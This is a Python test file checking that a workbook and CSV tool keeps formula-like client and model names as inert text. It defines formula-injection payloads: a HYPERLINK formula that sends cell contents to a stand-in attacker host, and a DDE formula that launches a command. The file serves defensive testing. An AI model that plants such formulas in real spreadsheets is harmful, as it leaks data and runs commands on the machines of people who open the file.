"""Class 6: live formulas written by us. Client and model text (a client name, a role, a custom model's
dimension names, a "decided by") that starts like a formula stays text in every workbook and CSV we write."""
from __future__ import annotations

import csv
import json
import re

from hostile_inputs import NORTHBANK, copy_example, workbench

from conftest import ROOT

LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"


def _formulas(path) -> list[str]:
    """Every cell of a workbook that a spreadsheet would evaluate."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _values(path) -> set[str]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def _hostile_client(tmp_path):
    """Northbank on a custom model whose first dimension is named like a formula, with a formula-like client
    name and role name."""
    model = (ROOT / "assessment/models/service-management.yaml").read_text()
    model = model.replace("name: Strategy and vision", f"name: {json.dumps(DDE)}", 1)
    (tmp_path / "their-model.yaml").write_text(model)
    folder = copy_example(NORTHBANK, tmp_path / "nb")
    text = (folder / "client.yaml").read_text()
    text = re.sub(r"^name: .*$", lambda m: f"name: {json.dumps(LINK)}", text, count=1, flags=re.M)
    text = re.sub(r"^model: .*$", f"model: {tmp_path / 'their-model.yaml'}", text, count=1, flags=re.M)
    text = text.replace('name: "Front line"', 'name: "@SUM(1+1)*cmd"', 1)
    text = text.replace("aliases: [Agent", 'aliases: ["Front line", Agent', 1)
    (folder / "client.yaml").write_text(text)
    return folder


def test_the_questionnaire_and_the_roadmap_workbook_hold_text_never_formulas(tmp_path):
    folder = _hostile_client(tmp_path)
    assert workbench("validate", folder).returncode == 0
    r = workbench("questionnaire", folder, "--out", tmp_path / "q.xlsx")
    assert r.returncode == 0, r.stderr
    assert _formulas(tmp_path / "q.xlsx") == []
    values = _values(tmp_path / "q.xlsx")
    assert any(v.startswith(f"{LINK}: ") and v.endswith(" questionnaire") for v in values)  # the title, B1, as text
    assert {"@SUM(1+1)*cmd", DDE} <= values                    # Lists!A3 and column D, as text

    r = workbench("roadmap", folder, "--xlsx", tmp_path / "roadmap.xlsx")
    assert r.returncode == 0, r.stderr
    assert _formulas(tmp_path / "roadmap.xlsx") == []
    assert LINK in _values(tmp_path / "roadmap.xlsx")


def test_every_csv_we_write_keeps_formula_like_text_as_text(tmp_path):
    folder = _hostile_client(tmp_path)
    r = workbench("score", folder, "--format", "csv")
    assert r.returncode == 0, r.stderr
    names = {row["name"] for row in csv.DictReader(r.stdout.splitlines())}
    assert f"'{DDE}" in names and DDE not in names

    from workbench.workshop.session import Workshop, read_log

    ws = Workshop(folder)
    ws.decide(capacity=ws.current.capacity + 5)
    ws.save(who=LINK, note="@note")
    row = read_log(folder)[-1]
    assert row["who"] == "'" + LINK and row["note"] == "'@note"

    from workbench.batch.jobs import ClientResult
    from workbench.batch.index import write_index

    write_index(tmp_path, [ClientResult("x", DDE, str(folder), "failed", error="-2+3 went wrong")])
    summary = next(csv.DictReader((tmp_path / "summary.csv").open()))
    assert summary["name"] == "'" + DDE and summary["error"] == "'-2+3 went wrong"
